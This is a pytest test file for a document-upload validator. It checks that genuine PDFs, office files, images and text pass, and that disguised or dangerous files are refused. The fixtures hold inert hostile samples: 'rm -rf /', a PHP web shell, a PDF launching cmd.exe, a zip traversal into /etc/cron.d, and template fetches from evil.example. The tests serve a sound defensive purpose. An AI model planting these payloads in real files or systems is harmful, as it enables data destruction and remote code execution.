"""Files that people share: what each kind proves, and everything that has no way in."""

import contextlib
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from mvp_coord.lib.documents import KINDS, RefusedError, check_document, clean_name
from tests.lib import office_files as files

HTML = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"
MACROS = '<Override PartName="/word/vbaProject.bin" ContentType="application/vnd.ms-office.vbaProject"/>'
MACRO_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
FETCHES = '<Relationships><Relationship Id="1" TargetMode="External" Type="http://x/{}" Target="{}"/></Relationships>'
PIECES = f"<Relationships>{'<a/>' * 250_000}</Relationships>"

GOOD = {
    "guide.pdf": files.pdf(),
    "guide.docx": files.docx(),
    "plan.xlsx": files.xlsx(),
    "slides.pptx": files.pptx(),
    "guide.odt": files.odf("text"),
    "plan.ods": files.odf("spreadsheet"),
    "slides.odp": files.odf("presentation"),
    "list.csv": b"county,doors\r\nPima,400\r\n",
    "script.txt": "\ufeffBuenas tardes, ¿tiene dos minutos?\n".encode(),
    "guide.md": b"# Listen first\n",
    "map.png": files.png(),
    "map.jpg": files.jpeg(),
    "map.webp": files.webp(),
}


@pytest.mark.parametrize("name", GOOD)
def test_a_file_that_is_what_it_says_is_let_in(name):
    checked = check_document(name, GOOD[name])
    kind = KINDS[name.rpartition(".")[2]]
    assert (checked.name, checked.label, checked.content_type) == (name, kind.label, kind.content_type)


def test_every_kind_is_tried_here():
    assert {name.rpartition(".")[2] for name in GOOD} == set(KINDS)


@pytest.mark.parametrize("claimed", KINDS)
@pytest.mark.parametrize("name", GOOD)
def test_no_kind_passes_for_another(name, claimed):
    ending = name.rpartition(".")[2]
    plain = {"csv", "txt", "md"}
    if claimed == ending or {claimed, ending} <= plain:
        return
    with pytest.raises(RefusedError):
        check_document(f"file.{claimed}", GOOD[name])


HOSTILE = {
    "a renamed program": ("guide.pdf", PROGRAM),
    "a renamed program as text": ("guide.txt", PROGRAM),
    "a program by its own name": ("guide.exe", PROGRAM),
    "a program behind a document's name": ("guide.pdf.exe", files.pdf()),
    "a page as PDF": ("guide.pdf", HTML),
    "a page as text": ("guide.md", HTML),
    "a page after blank lines": ("guide.txt", b"\n\n   <html><body>"),
    "a page by its own name": ("guide.html", HTML),
    "a drawing that runs scripts": ("map.svg", b"<svg onload='x()'/>"),
    "a drawing as text": ("map.txt", b"<?xml version='1.0'?><svg/>"),
    "a program for a shell": ("script.txt", b"#!/bin/sh\nrm -rf /\n"),
    "nothing": ("guide.pdf", b""),
    "no ending": ("guide", b"text"),
    "an ending without a name": ("pdf", files.pdf()),
    "an old Word file": ("guide.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "an old Word file as docx": ("guide.docx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "a PDF after a page": ("guide.pdf", HTML + files.pdf()),
    "an archive behind a PDF": ("guide.pdf", files.pdf() + files.docx()),
    "words behind a PDF": ("guide.pdf", files.pdf() + b"<script>"),
    "a PDF that is cut off": ("guide.pdf", files.pdf()[:-8]),
    "a PDF that starts programs": ("guide.pdf", files.pdf(b"2 0 obj<</S/Launch/F(cmd.exe)>>endobj")),
    "an archive behind a picture": ("map.png", files.png() + files.docx()),
    "words behind a PNG": ("map.png", files.png() + b"<script>alert(1)</script>"),
    "a PNG with a false checksum": ("map.png", files.png()[:-1] + b"x"),
    "only the beginning of a PNG": ("map.png", files.png()[:20]),
    "words behind a JPEG": ("map.jpg", files.jpeg() + b"<?php system($_GET[0]);"),
    "only the beginning of a JPEG": ("map.jpg", b"\xff\xd8\xff\xe0<script>"),
    "words behind a WebP": ("map.webp", files.webp() + b"<script>"),
    "a document with macros": ("guide.docx", files.docx({"word/vbaProject.bin": b"\0"})),
    "a document that declares macros": ("guide.docx", files.docx(types=files.content_types(more=MACROS))),
    "a docm renamed to docx": ("guide.docx", files.docx(types=files.content_types(MACRO_MAIN))),
    "a docm by its own name": ("guide.docm", files.docx()),
    "a workbook with old macro sheets": ("plan.docx", files.docx({"xl/macrosheets/sheet1.xml": "<x/>"})),
    "a text with macros": ("guide.odt", files.odf("text", Basic__Standard__Module1="Sub Main")),
    "a text with scripts": ("guide.odt", files.odf("text", Scripts__python__x="import os")),
    "a bomb": ("guide.docx", files.bomb()),
    "an archive that is no document": ("guide.docx", files.packed({"readme.txt": "hello"})),
    "an archive with a way out": ("guide.docx", files.docx({"../../etc/cron.d/x": "* * * * *"})),
    "an archive after a program": ("guide.docx", PROGRAM + files.docx()),
    "an archive before a program": ("guide.docx", files.docx() + PROGRAM),
    "a damaged archive": ("guide.docx", files.docx()[:100] + b"\0\0\0\0" + files.docx()[104:]),
    "a document type of its own": ("guide.docx", files.docx(types="<!DOCTYPE x [<!ENTITY a 'b'>]><Types/>")),
    "a document that fetches its template": (
        "guide.docx",
        files.docx(
            {"word/_rels/settings.xml.rels": FETCHES.format("attachedTemplate", "https://evil.example/t.dotm")}
        ),
    ),
    "a document that fetches from a share": (
        "guide.docx",
        files.docx({"word/_rels/settings.xml.rels": FETCHES.format("oleObject", "\\\\evil.example\\share\\x")}),
    ),
    "a document of too many pieces": ("guide.docx", files.docx({f"{n}.rels": PIECES for n in range(5)})),
    "text in another encoding": ("script.txt", "¿Señora?".encode("latin-1")),
    "text with control characters": ("script.txt", b"Hello\x1b[2J"),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_there_is_no_way_in_for(what):
    name, body = HOSTILE[what]
    with pytest.raises(RefusedError) as refusal:
        check_document(name, body)
    assert str(refusal.value).endswith(".") and len(str(refusal.value)) < 200


def test_a_document_on_a_template_of_its_writers_own_disk_is_let_in():
    rels = FETCHES.format("attachedTemplate", "file:///C:\\Users\\Ana\\Normal.dotm")
    assert check_document("guide.docx", files.docx({"word/_rels/settings.xml.rels": rels})).label == "Word document"


def test_links_in_a_document_lead_where_they_like():
    rels = FETCHES.format("hyperlink", "https://example.org/")
    assert check_document("guide.docx", files.docx({"word/_rels/document.xml.rels": rels}))


@pytest.mark.parametrize(
    ("name", "clean"),
    [
        ("guide.pdf", "guide.pdf"),
        ("../../etc/passwd", "passwd"),
        ("..\\..\\boot.ini", "boot.ini"),
        ("/etc/cron.d/guide.pdf", "guide.pdf"),
        ("C:\\Users\\Ana\\Guía de puertas.PDF", "Guía de puertas.pdf"),
        ("guide\u202efdp.exe", "guidefdp.exe"),
        ("gui\x00de\r\n.pdf", "guide.pdf"),
        ('a"b;c<d>.pdf', "a b;c d.pdf"),
        ("con.txt", "_con.txt"),
        ("aux", "_aux"),
        ("  ..  .pdf", "file.pdf"),
        ("", "file"),
        ("x" * 300 + ".pdf", "x" * 100 + ".pdf"),
    ],
)
def test_names_are_made_harmless(name, clean):
    assert clean_name(name) == clean


@given(st.text(max_size=300))
def test_no_name_leads_anywhere_or_hides_anything(name):
    clean = clean_name(name)
    assert 0 < len(clean) <= 112
    assert not set(clean) & set('/\\:<>"|?*')
    assert not {unicodedata.category(letter) for letter in clean} & {"Cc", "Cf", "Zl", "Zp"}
    assert not clean.startswith((".", "-")) and clean == clean_name(clean)


@given(st.sampled_from(sorted(KINDS)), st.binary(max_size=400))
def test_no_bytes_make_it_stumble(ending, body):
    try:
        check_document(f"file.{ending}", body)
    except RefusedError as refusal:
        assert str(refusal)


@given(st.sampled_from(["guide.docx", "guide.odt", "map.png", "map.jpg", "map.webp", "guide.pdf"]), st.data())
def test_no_damage_makes_it_stumble(name, data):
    body = bytearray(GOOD[name])
    for _ in range(data.draw(st.integers(1, 4))):
        body[data.draw(st.integers(0, len(body) - 1))] = data.draw(st.integers(0, 255))
    try:
        check_document(name, bytes(body))
    except RefusedError as refusal:
        assert str(refusal)


@pytest.mark.parametrize("name", ["guide.docx", "guide.odt"])
def test_an_archive_with_a_damaged_end_is_refused_not_an_error(name):
    good = GOOD[name]
    for place in range(len(good) - 22, len(good)):
        for value in (0, 1, 127, 255):
            with contextlib.suppress(RefusedError):
                check_document(name, good[:place] + bytes([value]) + good[place + 1 :])
